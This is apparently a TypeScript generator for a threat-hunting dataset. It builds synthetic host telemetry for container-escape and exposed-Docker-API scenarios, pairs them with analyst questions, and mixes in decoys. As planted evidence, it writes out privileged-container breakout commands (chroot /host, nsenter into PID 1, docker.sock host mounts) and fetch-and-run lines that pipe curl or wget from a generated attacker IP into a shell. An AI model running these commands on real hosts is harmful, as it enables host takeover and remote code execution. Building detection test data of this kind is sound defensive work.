// Containers: privileged containers mounting the host root, docker.sock handed to untrusted containers,
// and an exposed Docker API on 2375 used to start a host-mounting container.
import type { Rng } from "./prng.js";
import type { HostBuilder } from "./host.js";
import { run, withDecoys, randName, type Family } from "./kit.js";
import { hostileIp } from "./fleet.js";
import { dockerd } from "./roles.js";

const ADJ = ["focused", "elegant", "quirky", "sleepy", "brave", "jolly", "eager", "nostalgic", "vigilant", "admiring", "stoic"];
const NOUN = ["turing", "hopper", "curie", "lovelace", "babbage", "shannon", "ritchie", "torvalds", "knuth", "wozniak", "bell"];

export function containerRow(h: HostBuilder, rng: Rng, c: { name?: string; image: string; command: string; privileged?: boolean; pid?: number; env?: string; ageMin?: number; ageMax?: number }): { id: string; name: string } {
  const id = rng.hex(64);
  const name = `/${c.name ?? `${rng.pick(ADJ)}_${rng.pick(NOUN)}`}`;
  const created = h.recent(c.ageMin ?? 3_600, c.ageMax ?? 86_400 * 30);
  const hours = Math.max(1, Math.floor((h.now - created) / 3600));
  h.add("docker_containers", {
    id, name, image: c.image, image_id: `sha256:${rng.hex(64)}`, command: c.command, created, state: "running", status: hours > 48 ? `Up ${Math.floor(hours / 24)} days` : `Up ${hours} hours`,
    pid: c.pid ?? 0, path: c.command.split(" ")[0] ?? "", config_entrypoint: "", started_at: new Date(created * 1000).toISOString(), finished_at: "0001-01-01T00:00:00Z",
    privileged: c.privileged ? 1 : 0, security_options: c.privileged ? "label=disable" : "", env_variables: c.env ?? "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    readonly_rootfs: 0, cgroup_namespace: "", ipc_namespace: "", mnt_namespace: "", net_namespace: "", pid_namespace: "", user_namespace: "", uts_namespace: "",
  });
  return { id, name };
}

export function mount(h: HostBuilder, id: string, source: string, destination: string, rw = true): void {
  h.add("docker_container_mounts", { id, type: "bind", name: "", source, destination, driver: "", mode: rw ? "" : "ro", rw: rw ? 1 : 0, propagation: "rprivate" });
}

const escape: Family = {
  name: "container-escape", kind: "attack", attack: ["T1611", "T1610"], count: 5,
  sources: ["Atomic Red Team T1611: Mount host filesystem to escape privileged Docker container", "Atomic Red Team T1611: Deploy container using nsenter container escape", "Atomic Red Team T1611: Privilege Escalation via Docker Volume Mapping", "Sigma proc_creation_lnx_susp_container_residence_discovery"],
  q: {
    direct: ["any container escapes on {host}?", "are there privileged containers mounting the host root filesystem in {env}?", "is docker.sock mounted into an untrusted container on the {role}?", "check for nsenter or chroot /host breakouts"],
    paraphrase: ["did something break out of its container on {host}?", "can one of the containers on {host} take over the whole machine?", "is a container on the {role} reaching into the host?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["ci-runner", "app", "monitoring"] as const));
    const h = b.h;
    const dk = b.svc.dockerd ?? dockerd(h, rng);
    const variant = rng.int(0, 3);
    const shim = run(h, { name: "containerd-shim", path: "/usr/bin/containerd-shim-runc-v2", cmdline: `/usr/bin/containerd-shim-runc-v2 -namespace moby -id ${rng.hex(64)} -address /run/containerd/containerd.sock`, cgroup: "/system.slice/containerd.service" });
    void dk;
    const image = rng.pick(["alpine:latest", "ubuntu:22.04", "busybox", `docker.io/${randName(rng, 7)}/tools:latest`, "debian:bookworm-slim"]);
    if (variant === 0) {
      const c = containerRow(h, rng, { image, command: "sh -c 'sleep infinity'", privileged: true, ageMin: 600, ageMax: 86_400 });
      mount(h, c.id, "/", "/host");
      const sh = run(h, { name: "chroot", path: "/usr/sbin/chroot", cmdline: "chroot /host bash", parent: shim, cgroup: `/system.slice/docker-${c.id}.scope`, ageMin: 300, ageMax: 3_000 });
      run(h, { name: "bash", path: "/usr/bin/bash", cmdline: "bash", parent: sh, cgroup: `/system.slice/docker-${c.id}.scope`, ageMin: 290, ageMax: 290 });
      h.plant(c.id, c.name, "chroot /host bash");
    } else if (variant === 1) {
      const c = containerRow(h, rng, { image, command: "sh", privileged: true, ageMin: 600, ageMax: 86_400 });
      const cmd = "nsenter --target 1 --mount --uts --ipc --net --pid -- bash";
      run(h, { name: "nsenter", path: "/usr/bin/nsenter", cmdline: cmd, parent: shim, cgroup: `/system.slice/docker-${c.id}.scope`, ageMin: 300, ageMax: 3_000 });
      h.plant(c.id, c.name, cmd);
    } else if (variant === 3) {
      // A Kubernetes node on containerd: no docker_containers rows; a pod with hostPath / at /host (Bad Pods).
      const pod = rng.hex(8);
      const cgroup = `/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod${pod}.slice/cri-containerd-${rng.hex(64)}.scope`;
      const k8sShim = run(h, { name: "containerd-shim", path: "/usr/bin/containerd-shim-runc-v2", cmdline: `/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id ${rng.hex(64)} -address /run/containerd/containerd.sock`, cgroup: "/system.slice/containerd.service" });
      const sh = run(h, { name: "chroot", path: "/usr/sbin/chroot", cmdline: "chroot /host bash", parent: k8sShim, cgroup, ageMin: 300, ageMax: 3_000 });
      run(h, { name: "bash", path: "/usr/bin/bash", cmdline: "bash", parent: sh, cgroup, ageMin: 290, ageMax: 290 });
      h.plant("chroot /host bash", `pod${pod}`);
    } else {
      const c = containerRow(h, rng, { image, command: "/bin/sh", privileged: false, ageMin: 600, ageMax: 86_400 * 2 });
      mount(h, c.id, "/var/run/docker.sock", "/var/run/docker.sock");
      const cmd = "docker -H unix:///var/run/docker.sock run --rm -it --privileged -v /:/mnt alpine chroot /mnt sh";
      run(h, { name: "docker", path: "/usr/bin/docker", cmdline: cmd, parent: shim, cgroup: `/system.slice/docker-${c.id}.scope`, ageMin: 300, ageMax: 3_000 });
      const c2 = containerRow(h, rng, { image: "alpine", command: "chroot /mnt sh", privileged: true, ageMin: 200, ageMax: 250 });
      mount(h, c2.id, "/", "/mnt");
      h.plant(c.id, c2.id, cmd);
    }
    return withDecoys(ctx, { hosts: [{ b, compromised: true }] });
  },
};

const dockerApi: Family = {
  name: "docker-api-exposed", kind: "attack", attack: ["T1190", "T1610", "T1611"], count: 4,
  sources: ["Aqua Security: Threat Alert - exposed Docker API abused to deploy containers (Kinsing)", "Trend Micro: Exposed Docker Control API and Community Image Abused to Deliver Cryptominers", "Docker docs: Protect the Docker daemon socket"],
  q: {
    direct: ["is the Docker API exposed on 2375 on {host}?", "did someone use an open Docker daemon to start containers in {env}?", "check the {role} for unauthenticated dockerd listeners", "any containers created via the remote Docker API?"],
    paraphrase: ["can anyone on the internet start programs on {host} through docker?", "who started that new container on {host}?", "is our container engine on the {role} open to the world?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["ci-runner", "app", "monitoring"] as const));
    const h = b.h;
    if (!b.svc.dockerd) dockerd(h, rng);
    h.remove("processes", (p) => p.name === "dockerd");
    const dk = run(h, { name: "dockerd", path: "/usr/bin/dockerd", cmdline: "/usr/bin/dockerd -H tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock --containerd=/run/containerd/containerd.sock", cgroup: "/system.slice/docker.service", ageMin: 86_400 * 3, ageMax: 86_400 * 40 });
    h.listen(dk, 2375, { address: "::" });
    const ip = hostileIp(rng);
    h.conn(dk, ip, rng.int(40000, 60000), { localPort: 2375 });
    const c2 = hostileIp(rng);
    const cmd = rng.pick([`chroot /mnt /bin/sh -c 'curl -s http://${c2}/d.sh | bash'`, `sh -c 'apk add curl; curl -s http://${c2}/x | sh'`, `/bin/sh -c 'wget -O- http://${c2}/cr.sh | sh'`]);
    const c = containerRow(h, rng, { image: rng.pick(["alpine", "ubuntu", "alpine:3.18"]), command: cmd, privileged: rng.chance(0.5), ageMin: 600, ageMax: 86_400 });
    if (cmd.startsWith("chroot")) mount(h, c.id, "/", "/mnt");
    h.plant(ip, c.id, c2);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [ip, c2] });
  },
};

export const CONTAINER_FAMILIES: Family[] = [escape, dockerApi];
